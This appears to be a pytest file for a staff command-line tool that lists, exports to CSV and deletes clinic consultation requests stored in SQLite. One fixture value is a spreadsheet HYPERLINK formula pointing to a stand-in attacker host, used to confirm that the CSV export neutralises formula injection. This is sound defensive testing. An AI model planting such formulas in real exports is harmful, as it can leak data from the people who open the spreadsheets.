"""The staff command line, run in-process against a real SQLite file."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Iterator

import pytest

from bot.consultations.__main__ import main
from bot.consultations.report import HEADERS, neutralise_formula
from bot.consultations.repository import ConsultationRepository
from bot.consultations.submission import NewConsultation, SubmitResult
from bot.persistence.database import dispose_engines, get_engine

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak=1","Click me")'


@pytest.fixture
def database_url(tmp_path: Path) -> Iterator[str]:
    yield f"sqlite:///{tmp_path / 'consultations.db'}"
    dispose_engines()


def submit(database_url: str, **changes) -> SubmitResult:
    fields = dict(
        name="Ana López",
        conversation_id="conv-1",
        consent_given=True,
        email="ana@example.com",
        phone="+44 20 7946 0958",
        preferred_treatment="microneedling",
        preferred_time="Tuesday mornings",
    )
    fields.update(changes)
    return ConsultationRepository(get_engine(database_url)).submit(NewConsultation(**fields))


def run(capsys, *argv: str):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_list_shows_the_records_in_aligned_columns(database_url, capsys):
    older = submit(database_url, name="Bo", email=None, preferred_treatment=None, preferred_time=None)
    newer = submit(database_url, conversation_id="conv-2")
    code, out, _ = run(capsys, "list", "--database-url", database_url)
    assert code == 0
    header, first, second = out.splitlines()
    assert header.split()[:2] == ["Reference", "Created"]
    assert first.startswith(newer.reference) and second.startswith(older.reference)
    for value in ("Ana López", "ana@example.com", "+442079460958", "microneedling", "Tuesday mornings"):
        assert value in first
    for column in ("Name", "Phone"):
        assert first.index({"Name": "Ana López", "Phone": "+442079460958"}[column]) == header.index(column)
    assert second.index("Bo") == header.index("Name") and second.index("+442079460958") == header.index("Phone")


def test_list_accepts_the_url_before_the_command_and_says_when_empty(database_url, capsys, monkeypatch, tmp_path):
    # The default database has a request, so listing it instead of the given one would show.
    other = f"sqlite:///{tmp_path / 'other.db'}"
    submit(other)
    monkeypatch.setenv("DATABASE_URL", other)
    assert run(capsys, "--database-url", database_url, "list") == (0, "No consultation requests.\n", "")


def test_list_uses_database_url_from_the_environment(database_url, capsys, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", database_url)
    reference = submit(database_url).reference
    code, out, _ = run(capsys, "list")
    assert code == 0 and reference in out


def test_export_round_trips_and_neutralises_formulas(database_url, tmp_path, capsys):
    first = submit(database_url, name=FORMULA_NAME, preferred_time="-after 5pm, not Fridays")
    second = submit(database_url, conversation_id="conv-2", email=None, preferred_treatment=None)
    target = tmp_path / "export.csv"
    code, out, _ = run(capsys, "export", "--csv", str(target), "--database-url", database_url)
    assert code == 0 and out == f"Exported 2 consultation request(s) to {target}.\n"
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(HEADERS)
    newest, oldest = (dict(zip(HEADERS, row)) for row in rows[1:])
    assert len(rows) == 3
    assert oldest["Reference"] == first.reference and newest["Reference"] == second.reference
    assert oldest["Name"] == "'" + FORMULA_NAME
    assert oldest["Preferred time"] == "'-after 5pm, not Fridays"
    assert oldest["Phone"] == "'+442079460958"
    assert (newest["Name"], newest["Email"], newest["Treatment"]) == ("Ana López", "", "")
    assert rows[0][-1] == "Kind" and {oldest["Kind"], newest["Kind"]} == {"consultation"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+1", "'=1+1"),
        ("+44", "'+44"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Ana", "Ana"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_formula(cell, expected):
    assert neutralise_formula(cell) == expected


def test_export_to_a_missing_folder_fails_cleanly(database_url, tmp_path, capsys):
    code, _, err = run(capsys, "export", "--csv", str(tmp_path / "missing" / "x.csv"), "--database-url", database_url)
    assert code == 1 and "Could not write" in err


def test_delete_by_reference(database_url, capsys):
    gone = submit(database_url)
    kept = submit(database_url, conversation_id="conv-2")
    # One person's data everywhere (bot.staff.erasure): the request and its staff notice; no conversation here.
    assert run(capsys, "delete", "--reference", gone.reference.lower(), "--database-url", database_url) == (
        0,
        "Deleted 1 consultation request(s), 0 conversation(s) (0 events) and 1 staff notice(s).\n",
        "",
    )
    _, out, _ = run(capsys, "list", "--database-url", database_url)
    assert gone.reference not in out and kept.reference in out
    assert run(capsys, "delete", "--reference", gone.reference, "--database-url", database_url)[1].startswith(
        "Deleted 0 consultation request(s)"
    )


def test_delete_by_email(database_url, capsys):
    submit(database_url)
    submit(database_url, preferred_treatment="laser")
    kept = submit(database_url, name="Ben", email="ben@example.com", phone=None)
    code, out, _ = run(capsys, "delete", "--email", "ANA@example.com", "--database-url", database_url)
    assert (code, out) == (
        0,
        "Deleted 2 consultation request(s), 0 conversation(s) (0 events) and 2 staff notice(s).\n",
    )
    _, listing, _ = run(capsys, "list", "--database-url", database_url)
    assert "ana@example.com" not in listing and kept.reference in listing


@pytest.mark.parametrize(
    "argv,message",
    [(["--reference", "PG-0000"], "is not a reference"), (["--email", "ana.example.com"], "missing an @")],
)
def test_delete_refuses_malformed_targets(database_url, capsys, argv, message):
    reference = submit(database_url).reference
    code, _, err = run(capsys, "delete", *argv, "--database-url", database_url)
    assert code == 2 and message in err
    assert reference in run(capsys, "list", "--database-url", database_url)[1]


def test_delete_needs_exactly_one_target(database_url, capsys):
    for argv in (["delete"], ["delete", "--reference", "PG-AAAAAA", "--email", "ana@example.com"]):
        with pytest.raises(SystemExit) as caught:
            main(argv + ["--database-url", database_url])
        assert caught.value.code == 2


def test_unreachable_database_is_reported(capsys):
    code, out, err = run(capsys, "list", "--database-url", "postgresql+psycopg2://nobody@127.0.0.1:1/none")
    assert code == 1 and out == ""
    assert "Could not reach the consultation database" in err
    dispose_engines()


def test_malformed_database_url_is_reported_without_echoing_it(capsys):
    code, _, err = run(capsys, "list", "--database-url", "nosuchdb://user:secret@host/db")
    assert code == 2 and "Invalid database URL" in err and "secret" not in err
